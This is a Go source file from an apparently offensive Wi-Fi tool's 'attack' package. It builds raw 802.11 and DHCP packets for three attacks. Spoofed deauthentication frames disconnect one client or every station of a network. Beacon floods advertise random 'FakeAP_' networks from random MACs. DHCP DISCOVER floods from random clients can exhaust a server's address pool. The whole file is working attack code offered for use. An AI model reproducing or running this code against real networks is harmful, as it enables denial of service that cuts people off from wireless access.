package attack

import (
	"fmt"
	"math/rand"
	"net"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"

	"github.com/gunwifi/gunwifi/pkg/wifi"
)

// ReasonClass3FromNonAssoc is reason code 7: class 3 frame received from a
// nonassociated station.
const ReasonClass3FromNonAssoc layers.Dot11Reason = 7

// Beacon parameters.
const (
	capESS     uint16 = 0x0001
	beaconTU   uint16 = 100
	ssidPrefix        = "FakeAP_"
)

// 1, 2, 5.5 and 11 Mbit/s basic rates plus 6, 9, 12 and 18.
var supportedRates = []byte{0x82, 0x84, 0x8b, 0x96, 0x0c, 0x12, 0x18, 0x24}

var dhcpServerPort = layers.UDPPort(67)

func serialize(what string, ls ...gopacket.SerializableLayer) ([]byte, error) {
	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{
		ComputeChecksums: true,
		FixLengths:       true,
	}
	if err := gopacket.SerializeLayers(buf, opts, ls...); err != nil {
		return nil, fmt.Errorf("serialize %s frame: %w", what, err)
	}
	return buf.Bytes(), nil
}

// BuildDeauthFrame constructs a deauthentication frame sent in the name of
// bssid to client, or to every station of the BSS when client is nil.
func BuildDeauthFrame(bssid, client net.HardwareAddr, reason layers.Dot11Reason, seq uint16) ([]byte, error) {
	if len(bssid) != 6 {
		return nil, fmt.Errorf("deauth: bad BSSID %q", bssid)
	}
	dst := client
	if len(dst) == 0 {
		dst = wifi.BroadcastMAC
	}

	return serialize("deauth",
		&layers.RadioTap{},
		&layers.Dot11{
			Address1:       dst,
			Address2:       bssid,
			Address3:       bssid,
			Type:           layers.Dot11TypeMgmtDeauthentication,
			SequenceNumber: seq & 0x0fff,
		},
		&layers.Dot11MgmtDeauthentication{
			Reason: reason,
		},
	)
}

// BuildBeaconFrame constructs a broadcast beacon advertising an ESS named
// ssid from mac. A zero channel omits the DS parameter set.
func BuildBeaconFrame(ssid string, mac net.HardwareAddr, channel int, seq uint16) ([]byte, error) {
	if len(ssid) > 32 {
		return nil, fmt.Errorf("beacon: SSID %q longer than 32 bytes", ssid)
	}

	ls := []gopacket.SerializableLayer{
		&layers.RadioTap{},
		&layers.Dot11{
			Address1:       wifi.BroadcastMAC,
			Address2:       mac,
			Address3:       mac,
			Type:           layers.Dot11TypeMgmtBeacon,
			SequenceNumber: seq & 0x0fff,
		},
		&layers.Dot11MgmtBeacon{
			Timestamp: uint64(time.Now().UnixMicro()),
			Interval:  beaconTU,
			Flags:     capESS,
		},
		&layers.Dot11InformationElement{
			ID:     layers.Dot11InformationElementIDSSID,
			Length: uint8(len(ssid)),
			Info:   []byte(ssid),
		},
	}
	// The DS set goes before the rates; a 3-byte trailing IE trips some decoders.
	if channel > 0 && channel <= 255 {
		ls = append(ls, &layers.Dot11InformationElement{
			ID:     layers.Dot11InformationElementIDDSSet,
			Length: 1,
			Info:   []byte{byte(channel)},
		})
	}
	ls = append(ls, &layers.Dot11InformationElement{
		ID:     layers.Dot11InformationElementIDRates,
		Length: uint8(len(supportedRates)),
		Info:   supportedRates,
	})
	return serialize("beacon", ls...)
}

// BuildDHCPDiscover constructs a broadcast DHCPDISCOVER from client mac.
func BuildDHCPDiscover(mac net.HardwareAddr, xid uint32) ([]byte, error) {
	eth := &layers.Ethernet{
		SrcMAC:       mac,
		DstMAC:       wifi.BroadcastMAC,
		EthernetType: layers.EthernetTypeIPv4,
	}
	ip := &layers.IPv4{
		Version:  4,
		TTL:      64,
		Protocol: layers.IPProtocolUDP,
		SrcIP:    net.IPv4zero.To4(),
		DstIP:    net.IPv4bcast.To4(),
	}
	udp := &layers.UDP{
		SrcPort: 68,
		DstPort: dhcpServerPort,
	}
	if err := udp.SetNetworkLayerForChecksum(ip); err != nil {
		return nil, fmt.Errorf("dhcp checksum: %w", err)
	}
	// The serializer terminates the option list with End.
	dhcp := &layers.DHCPv4{
		Operation:    layers.DHCPOpRequest,
		HardwareType: layers.LinkTypeEthernet,
		HardwareLen:  6,
		Xid:          xid,
		Flags:        0x8000,
		ClientHWAddr: mac,
		Options: layers.DHCPOptions{
			layers.NewDHCPOption(layers.DHCPOptMessageType, []byte{byte(layers.DHCPMsgTypeDiscover)}),
		},
	}
	return serialize("dhcp discover", eth, ip, udp, dhcp)
}

// DeauthFrames repeats one deauthentication frame with an advancing
// sequence number.
type DeauthFrames struct {
	BSSID  net.HardwareAddr
	Client net.HardwareAddr // nil for broadcast
	Reason layers.Dot11Reason
}

func (d DeauthFrames) Frame(i int) ([]byte, error) {
	reason := d.Reason
	if reason == 0 {
		reason = ReasonClass3FromNonAssoc
	}
	return BuildDeauthFrame(d.BSSID, d.Client, reason, uint16(i))
}

// BeaconFrames advertises a new FakeAP_NNNN network from a new random MAC on
// every frame. Collisions are possible and harmless.
type BeaconFrames struct {
	Rand    *rand.Rand
	Channel int
}

func (b *BeaconFrames) Frame(i int) ([]byte, error) {
	if b.Rand == nil {
		b.Rand = rand.New(rand.NewSource(time.Now().UnixNano()))
	}
	ssid := RandomSSID(b.Rand)
	mac := wifi.RandomMAC(b.Rand)
	return BuildBeaconFrame(ssid, mac, b.Channel, uint16(i))
}

// RandomSSID returns FakeAP_ followed by four digits.
func RandomSSID(r *rand.Rand) string {
	return fmt.Sprintf("%s%d", ssidPrefix, 1000+r.Intn(9000))
}

// DHCPFrames emits DHCPDISCOVERs from a new random client on every frame.
type DHCPFrames struct {
	Rand *rand.Rand
}

func (d *DHCPFrames) Frame(int) ([]byte, error) {
	if d.Rand == nil {
		d.Rand = rand.New(rand.NewSource(time.Now().UnixNano()))
	}
	mac := wifi.RandomMAC(d.Rand)
	return BuildDHCPDiscover(mac, d.Rand.Uint32())
}
